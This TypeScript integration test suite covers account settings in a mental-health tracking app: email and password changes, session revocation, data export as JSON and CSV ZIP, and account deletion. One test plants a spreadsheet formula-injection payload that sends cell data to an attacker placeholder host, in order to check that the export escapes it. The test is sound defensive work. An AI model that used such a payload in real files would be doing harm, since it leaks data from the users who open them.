import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import {
  AccountApiPath,
  ApiPath,
  AssessmentApiPath,
  MoodApiPath,
  OnboardingApiPath,
  type AssessmentResult,
  type Pcl5Answer,
  type PublicUser,
} from '@anchor/contracts';
import { HttpClient } from '@anchor/services/test/http-client';
import { signIn, signUp } from '@anchor/services/test/sign-up';
import { createTestApp, type TestApp } from '@anchor/services/test/test-app';
import { UserEntity } from '../../users/entities/user.entity';
import { userOwnedTables } from '../user-data-export.service';

const PASSWORD = 'password-123';

describe('account settings and data management', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  const signUpWith = (username: string, email?: string) => signUp(t, username, { email, password: PASSWORD });

  it('edits names freely and the email only with the current password', async () => {
    const { client } = await signUpWith('editor', 'editor@example.com');
    // Only a proven address is taken: the other account's is proven (as a code sent to it would).
    await signUpWith('other', 'taken@example.com');
    await t.dataSource.getRepository(UserEntity).update({ username: 'other' }, { emailVerifiedAt: new Date() });
    const names = await client.patch<PublicUser>(AccountApiPath.profile, {
      body: { firstName: 'Ed', lastName: 'Itor' },
    });
    expect(names.body).toMatchObject({ firstName: 'Ed', lastName: 'Itor', email: 'editor@example.com' });

    const noPassword = await client.patch(AccountApiPath.profile, { body: { email: 'new@example.com' } });
    expect(noPassword).toMatchObject({ status: 400, body: { field: 'currentPassword' } });
    const wrong = await client.patch(AccountApiPath.profile, {
      body: { email: 'new@example.com', currentPassword: 'nope-nope' },
    });
    expect(wrong.status).toBe(403);
    const taken = await client.patch(AccountApiPath.profile, {
      body: { email: 'TAKEN@example.com', currentPassword: PASSWORD },
    });
    expect(taken).toMatchObject({ status: 409, body: { code: 'EMAIL_TAKEN', field: 'email' } });
    const changed = await client.patch<PublicUser>(AccountApiPath.profile, {
      body: { email: 'New@Example.com', currentPassword: PASSWORD },
    });
    expect(changed.body.email).toBe('new@example.com');
  });

  it('changes the password and signs out every other session, keeping this one', async () => {
    const { client } = await signUpWith('rotator');
    const otherDevice = await signIn(new HttpClient(t.baseUrl), 'rotator', PASSWORD);
    expect((await otherDevice.get(ApiPath.user)).status).toBe(200);

    const short = await client.post(AccountApiPath.password, {
      body: { currentPassword: PASSWORD, newPassword: 'short' },
    });
    expect(short).toMatchObject({ status: 400, body: { field: 'newPassword' } });
    const wrong = await client.post(AccountApiPath.password, {
      body: { currentPassword: 'not-it-at-all', newPassword: 'a-new-password' },
    });
    expect(wrong.status).toBe(403);

    const changed = await client.post(AccountApiPath.password, {
      body: { currentPassword: PASSWORD, newPassword: 'a-new-password' },
    });
    expect(changed.status).toBe(204);
    expect((await client.get(ApiPath.user)).status).toBe(200);
    expect((await otherDevice.get(ApiPath.user)).status).toBe(401);
    const withNew = await new HttpClient(t.baseUrl).post(ApiPath.login, {
      body: { username: 'rotator', password: 'a-new-password' },
    });
    expect(withNew.status).toBe(200);
  });

  async function download(client: HttpClient, format: string): Promise<{ response: Response; bytes: Buffer }> {
    const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
    const response = await fetch(`${t.baseUrl}${AccountApiPath.export}?format=${format}`, {
      headers: { Cookie: cookie },
    });
    return { response, bytes: Buffer.from(await response.arrayBuffer()) };
  }

  async function onboardWithMedication(client: HttpClient, medicationName: string): Promise<void> {
    const done = await client.post(OnboardingApiPath.complete, {
      body: { name: 'Exporter', medicationReminders: true, medicationName, medicationDosage: '10 mg' },
    });
    expect(done.status).toBe(200);
  }

  it('exports the caller’s data as JSON and as a ZIP of CSVs, and nothing of anyone else', async () => {
    const { client } = await signUpWith('exporter');
    const { client: stranger } = await signUpWith('stranger');
    await onboardWithMedication(client, 'Prazosin');
    await onboardWithMedication(stranger, 'Strangerol');

    const json = await download(client, 'json');
    expect(json.response.status).toBe(200);
    expect(json.response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="anchor-export-\d{4}-\d{2}-\d{2}\.json"$/,
    );
    const data = JSON.parse(json.bytes.toString('utf8'));
    expect(data.profile).toMatchObject({ username: 'exporter' });
    expect(JSON.stringify(data)).not.toMatch(/argon2|passwordHash/);
    expect(data.tables.medications.rows).toEqual([
      expect.objectContaining({ name: 'Prazosin', dosage: '10 mg', timeSlots: ['08:00'] }),
    ]);
    expect(data.tables.user_profiles.rows[0]).toMatchObject({ name: 'Exporter' });
    expect(json.bytes.toString('utf8')).not.toContain('Strangerol');
    expect(json.bytes.toString('utf8')).not.toContain('stranger');

    const zip = await download(client, 'zip');
    expect(zip.response.headers.get('content-type')).toBe('application/zip');
    const archive = await JSZip.loadAsync(zip.bytes);
    expect(Object.keys(archive.files)).toEqual(
      expect.arrayContaining(['profile.csv', 'medications.csv', 'mood_entries.csv']),
    );
    const medications = await archive.file('medications.csv')?.async('string');
    expect(medications).toContain('Prazosin');
    for (const file of Object.values(archive.files)) expect(await file.async('string')).not.toContain('Strangerol');

    const bad = await client.get(`${AccountApiPath.export}?format=pdf`);
    expect(bad).toMatchObject({ status: 400, body: { field: 'format' } });
  });

  it('writes text that a spreadsheet would run as a formula as plain text in the ZIP, and as typed in the JSON', async () => {
    const { client } = await signUpWith('formula-writer');
    const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open your report")';
    const note = await client.post(MoodApiPath.entries, { body: { mood: 4, notes: formula } });
    expect(note.status).toBe(201);

    const archive = await JSZip.loadAsync((await download(client, 'zip')).bytes);
    const moods = await archive.file('mood_entries.csv')?.async('string');
    const [row] = parse(moods ?? '', { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ notes: `'${formula}`, mood: '4' });
    expect(moods).not.toMatch(/(^|,)"?=/m);

    const data = JSON.parse((await download(client, 'json')).bytes.toString('utf8'));
    expect(data.tables.mood_entries.rows[0].notes).toBe(formula);
  });

  it('exports the answers a review replaced as the assessment’s earlier version, beside the reviewed answers', async () => {
    const { client } = await signUpWith('reviser');
    const { client: stranger } = await signUpWith('other-reviser');
    const submitted = await client.post<AssessmentResult>(AssessmentApiPath.assessments, {
      body: { responses: Array<Pcl5Answer>(20).fill(2) },
    });
    expect(submitted.status).toBe(201);
    const reviewed = await client.put<AssessmentResult>(AssessmentApiPath.latest, {
      body: { responses: Array<Pcl5Answer>(20).fill(1) },
    });
    expect(reviewed.body).toMatchObject({ id: submitted.body.id, totalScore: 20 });
    await stranger.post(AssessmentApiPath.assessments, { body: { responses: Array<Pcl5Answer>(20).fill(4) } });
    await stranger.put(AssessmentApiPath.latest, { body: { responses: Array<Pcl5Answer>(20).fill(3) } });

    const data = JSON.parse((await download(client, 'json')).bytes.toString('utf8'));
    expect(data.tables.pcl5_assessments.rows).toEqual([
      expect.objectContaining({ id: submitted.body.id, score: 20, version: 2 }),
    ]);
    expect(data.tables.pcl5_assessment_versions.rows).toEqual([
      expect.objectContaining({
        assessmentId: submitted.body.id,
        version: 1,
        score: 40,
        responses: Array<Pcl5Answer>(20).fill(2),
        replacedAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
      }),
    ]);

    const archive = await JSZip.loadAsync((await download(client, 'zip')).bytes);
    const versions = await archive.file('pcl5_assessment_versions.csv')?.async('string');
    expect(versions?.split('\n')[0]).toContain('version');
    expect(versions?.trim().split('\n')).toHaveLength(2);
  });

  it('deletes the account and everything it owns, only with the right password', async () => {
    const { client, userId } = await signUpWith('leaver');
    await onboardWithMedication(client, 'Leaverin');
    const wrong = await client.request('DELETE', AccountApiPath.user, { body: { password: 'wrong-password' } });
    expect(wrong.status).toBe(403);

    const deleted = await client.request('DELETE', AccountApiPath.user, { body: { password: PASSWORD } });
    expect(deleted.status).toBe(204);
    expect(client.cookies.size).toBe(0);
    const tables = ['users', 'sessions', ...userOwnedTables(t.dataSource).map((metadata) => metadata.tableName)];
    for (const table of tables) {
      const column = table === 'users' ? 'id' : 'user_id';
      const [{ n }] = await t.dataSource.query(`SELECT count(*)::int AS n FROM "${table}" WHERE "${column}" = $1`, [
        userId,
      ]);
      expect({ table, n }).toEqual({ table, n: 0 });
    }
  });
});
